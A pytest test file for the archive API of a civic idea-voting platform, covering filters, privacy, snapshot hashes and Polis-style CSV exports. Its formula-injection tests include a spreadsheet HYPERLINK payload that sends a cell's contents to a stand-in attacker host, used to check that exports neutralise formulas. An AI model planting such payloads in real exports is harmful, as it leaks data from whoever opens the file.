"""Archive API: list filters, detail with hash, CSV exports in our and the Polis layout, privacy."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from collections import Counter, defaultdict

import pytest

from archive.exports import COMMENTS_HEADER, VOTES_HEADER
from ideas.models import Vote
from tests.conftest import ForumFactory

pytestmark = pytest.mark.django_db


def read_csv(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))


def test_list_and_filters(built, api):
    archive = built.archive
    client = api(None)
    rows = client.get("/api/v1/archive/").json()["results"]
    assert [row["id"] for row in rows] == [archive.pk]
    assert rows[0]["sha256"] == archive.sha256 and rows[0]["city"] == "Якутск"
    day = archive.held_on.isoformat()
    for params, expected in [
        ({"city": "якут"}, 1), ({"city": "Тольятти"}, 0),
        ({"forum": archive.forum_id}, 1), ({"forum": archive.forum_id + 1000}, 0),
        ({"date_from": day, "date_to": day}, 1), ({"date_from": "2999-01-01"}, 0),
        ({"text": "город будущего"}, 1), ({"text": "нет такого"}, 0),
    ]:
        assert client.get("/api/v1/archive/", params).json()["count"] == expected, params
    assert client.get("/api/v1/archive/", {"date_from": "not-a-date"}).status_code == 400


def test_private_archives_are_hidden_from_the_public(built, api, moderator):
    forum = built.archive.forum
    forum.is_public = False
    forum.save()
    assert api(None).get("/api/v1/archive/").json()["count"] == 0
    assert api(None).get(f"/api/v1/archive/{built.archive.pk}/").status_code == 404
    assert api(None).get(f"/api/v1/archive/{built.archive.pk}/votes.csv").status_code == 404
    assert api(None).get("/api/v1/archive/search/", {"q": "парки"}).json()["results"] == []
    assert api(moderator).get("/api/v1/archive/").json()["count"] == 1


def test_detail_has_snapshot_and_hash_that_checks_out(built, api):
    client = api(None)
    body = client.get(f"/api/v1/archive/{built.archive.pk}/").json()
    assert body["sha256"] == built.archive.sha256
    assert body["snapshot"]["session"]["question"] == built.session.question
    raw = client.get(f"/api/v1/archive/{built.archive.pk}/snapshot.json")
    assert raw.status_code == 200
    assert hashlib.sha256(raw.content).hexdigest() == body["sha256"]
    assert client.get("/api/v1/archive/999999/").status_code == 404
    assert client.get("/api/v1/archive/abc/").status_code == 404


def test_ideas_csv(built, api):
    rows = read_csv(api(None).get(f"/api/v1/archive/{built.archive.pk}/ideas.csv"))
    document = json.loads(built.archive.snapshot)
    assert [int(row["id"]) for row in rows] == [idea["id"] for idea in document["ideas"]]
    by_id = {int(row["id"]): row for row in rows}
    park = by_id[built.ideas["park"].pk]
    assert park["sector"] == "government" and park["group"] == "Парки и набережные"
    assert int(park["votes"]) == Vote.objects.filter(idea=built.ideas["park"]).count()
    assert "votes_expert" not in park  # a sector of one voter is never broken out
    assert {"votes_government", "votes_society", "votes_business"} <= set(park)


def parse_polis(comments_text: str, votes_text: str) -> tuple[dict[int, dict], dict[int, Counter]]:
    """A small reader the way Polis tools read these files: last vote per (voter, comment) wins."""
    comments = {int(row["comment-id"]): row for row in csv.DictReader(io.StringIO(comments_text))}
    last: dict[tuple[int, int], tuple[int, int]] = {}
    for row in csv.DictReader(io.StringIO(votes_text)):
        key = (int(row["voter-id"]), int(row["comment-id"]))
        stamp = int(row["timestamp"])
        if key not in last or stamp >= last[key][0]:
            last[key] = (stamp, int(row["vote"]))
    counts: dict[int, Counter] = defaultdict(Counter)
    for (_voter, comment), (_stamp, vote) in last.items():
        counts[comment][vote] += 1
    return comments, counts


def test_polis_export_reads_back_to_the_same_counts(built, api):
    client = api(None)
    comments_response = client.get(f"/api/v1/archive/{built.archive.pk}/comments.csv")
    votes_response = client.get(f"/api/v1/archive/{built.archive.pk}/votes.csv")
    comments_text = comments_response.content.decode("utf-8")
    votes_text = votes_response.content.decode("utf-8")
    assert comments_text.splitlines()[0].split(",") == COMMENTS_HEADER
    assert votes_text.splitlines()[0].split(",") == VOTES_HEADER
    comments, counts = parse_polis(comments_text, votes_text)
    document = json.loads(built.archive.snapshot)
    assert set(comments) == {idea["id"] for idea in document["ideas"]}
    for idea in document["ideas"]:
        row = comments[idea["id"]]
        assert row["comment-body"] == idea["text"]
        assert row["moderated"] == "1"
        assert int(row["agrees"]) == idea["tally"]["agree"] == counts[idea["id"]][1]
        assert int(row["disagrees"]) == idea["tally"]["disagree"] == counts[idea["id"]][-1]
        assert counts[idea["id"]][0] == idea["tally"]["pass"]
        assert " UTC " in row["datetime"] and row["timestamp"].isdigit()
    # The exported votes are exactly the final votes on published ideas.
    live = Counter(
        (idea_id, 1 if value > 0 else value)
        for idea_id, value in Vote.objects.filter(idea__session=built.session, idea__status="published").values_list("idea_id", "value")
    )
    assert sum(sum(c.values()) for c in counts.values()) == sum(live.values())
    assert hashlib.sha256(votes_response.content).hexdigest() == document["votes"]["sha256"]


def test_polis_export_of_a_support_session(session, moderator, make_participant, api):
    from tests.archive.conftest import build_session

    built = build_session(session, moderator, make_participant, method="support")
    client = api(None)
    comments, counts = parse_polis(
        client.get(f"/api/v1/archive/{built.archive.pk}/comments.csv").content.decode(),
        client.get(f"/api/v1/archive/{built.archive.pk}/votes.csv").content.decode(),
    )
    for idea in json.loads(built.archive.snapshot)["ideas"]:
        assert int(comments[idea["id"]]["agrees"]) == idea["tally"]["supporters"] == counts[idea["id"]][1]
        assert comments[idea["id"]]["disagrees"] == "0"


def test_no_names_or_tokens_in_any_public_export(built, api):
    client = api(None)
    base = f"/api/v1/archive/{built.archive.pk}"
    bodies = [client.get(url).content.decode("utf-8") for url in (
        f"{base}/", f"{base}/snapshot.json", f"{base}/ideas.csv", f"{base}/comments.csv", f"{base}/votes.csv",
        "/api/v1/archive/", "/api/v1/archive/search/?q=парки",
    )]
    secrets = []
    for person in built.participants:
        secrets += [person.display_name, person.token, person.token_hash]
    secrets += ["moderator", built.session.join_code]
    for body in bodies:
        for secret in secrets:
            assert secret not in body
    hidden = built.ideas["rude"].text
    assert all(hidden not in body for body in bodies)


def test_csv_cells_cannot_become_formulas(session, moderator, make_participant, api):
    from ideas import operations
    from ideas.models import Stage

    person = make_participant(session)
    operations.idea_post(session=session, text="=1+2 и новый парк", author=person)
    for stage in (Stage.VOTING, Stage.RESULTS, Stage.ARCHIVED):
        operations.session_set_stage(session=session, actor=moderator, stage=stage)
    session.refresh_from_db()
    text = api(None).get(f"/api/v1/archive/{session.archive.pk}/ideas.csv").content.decode()
    assert ",'=1+2 и новый парк," in text


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее о парке")', "@SUM(1+1) и новые скамейки"]


def test_every_csv_export_neutralises_formulas(session, moderator, make_participant, api):
    """comments.csv, ideas.csv and votes.csv, read back as a spreadsheet would: no cell starts a formula."""
    from archive.exports import _FORMULA_START
    from ideas import operations
    from ideas.models import Stage

    operations.session_update(session=session, actor=moderator, voting_method="agree")
    person = make_participant(session)
    ideas = [operations.idea_post(session=session, text=text, author=person) for text in FORMULAS]
    for idea in ideas:
        idea.refresh_from_db()
        if idea.status != "published":
            operations.idea_moderate(idea=idea, actor=moderator, status="published")
    operations.group_create(session=session, actor=moderator, title="-Группа+", idea_ids=[ideas[0].pk])
    operations.session_set_stage(session=session, actor=moderator, stage=Stage.VOTING)
    operations.vote_cast(participant=person, idea_id=ideas[0].pk, value=-1)
    for stage in (Stage.RESULTS, Stage.ARCHIVED):
        operations.session_set_stage(session=session, actor=moderator, stage=stage)
    session.refresh_from_db()
    client = api(None)
    base = f"/api/v1/archive/{session.archive.pk}"

    comments = read_csv(client.get(f"{base}/comments.csv"))
    assert sorted(row["comment-body"] for row in comments) == sorted("'" + text for text in FORMULAS)
    ideas_rows = read_csv(client.get(f"{base}/ideas.csv"))
    assert sorted(row["text"] for row in ideas_rows) == sorted("'" + text for text in FORMULAS)
    assert "'-Группа+" in {row["group"] for row in ideas_rows}
    votes = read_csv(client.get(f"{base}/votes.csv"))
    assert [row["vote"] for row in votes] == ["-1"]  # a number, left as it is

    for rows in (comments, ideas_rows):
        for row in rows:
            for column, cell in row.items():
                if not cell.lstrip("-").isdigit():
                    assert not cell.startswith(_FORMULA_START), (column, cell)


def test_forum_less_session_archives(moderator, make_participant):
    from ideas import operations
    from ideas.models import Stage
    from tests.conftest import SessionFactory

    session = SessionFactory(forum=None)
    session.moderators.add(moderator)
    for stage in (Stage.VOTING, Stage.RESULTS, Stage.ARCHIVED):
        operations.session_set_stage(session=session, actor=moderator, stage=stage)
    session.refresh_from_db()
    document = json.loads(session.archive.snapshot)
    assert document["forum"] is None and document["ideas"] == []
    assert session.archive.city == ""
    ForumFactory()  # other forums do not matter
